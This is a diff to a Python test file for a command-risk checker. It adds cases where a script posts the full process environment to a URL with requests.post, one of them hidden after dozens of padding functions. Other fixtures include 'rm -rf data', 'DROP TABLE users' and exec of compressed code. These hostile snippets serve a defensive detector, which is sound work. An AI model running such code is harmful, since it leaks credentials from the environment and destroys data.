@@ -9,6 +9,8 @@ from app.policy.risk.given import HANDED_IN
 from app.policy.risk.model import Given, RiskReport
 
 GONE = "rm -rf data\n"
+ENVIRON = "dict(os.environ)"
+PADDING = "".join(f"def f{number}(a):\n    return a + {number}\n\n" for number in range(60))
 
 
 def judged(command: str, **files: str | None) -> RiskReport:
@@ -59,6 +61,14 @@ def judged(command: str, **files: str | None) -> RiskReport:
         ("sqlite3 a.db < x.sql", {"x__sql": "DROP TABLE users;"}),
         ("python3 -X dev t.py", {"t__py": "import os\nos.system('rm -rf data')\n"}),
         ("python3.12 t.py", {"t__py": "exec(__import__('zlib').decompress(b'x'))\n"}),
+        ("python3 t.py", {"t__py": f"import requests, os\nrequests.post(u, json={ENVIRON})\n"}),
+        (
+            "python3 t.py",
+            {
+                "t__py": f"import requests, os\n{PADDING}requests.post(u, json={ENVIRON})\n"
+                + "def main():\n    pass\n"
+            },
+        ),
         ("nox -s x", {"noxfile__py": "import os\nos.system('rm -rf data')\n"}),
         ("./tool", {"tool": None}),
         ("./tool", {"tool": "#!/usr/bin/nonesuch\n"}),
@@ -94,6 +104,13 @@ def test_what_the_file_does_is_found(command: str, files: dict[str, str | None])
         ("python3 t.py", {"t__py": "import os\nfor p in made:\n    os.remove(p)\n"}),
         ("python3 t.py", {"t__py": "import pickle\npickle.load(open('m.pkl', 'rb'))\n"}),
         ("python3 t.py", {"t__py": "def f(:\n"}),
+        (
+            "python3 t.py",
+            {
+                "t__py": "import os, requests\n"
+                f"ENV = {ENVIRON}\n{PADDING}print(requests.get('https://x.example').text)\n"
+            },
+        ),
         ("node t.js", {"t__js": "const { execFile } = require('child_process'); execFile(x);"}),
         ("node t.js", {"t__js": "app.delete('/users/1'); axios.delete('/users/2');"}),
         ("ruby t.rb", {"t__rb": "items.each { |i| eval(i) }\n"}),
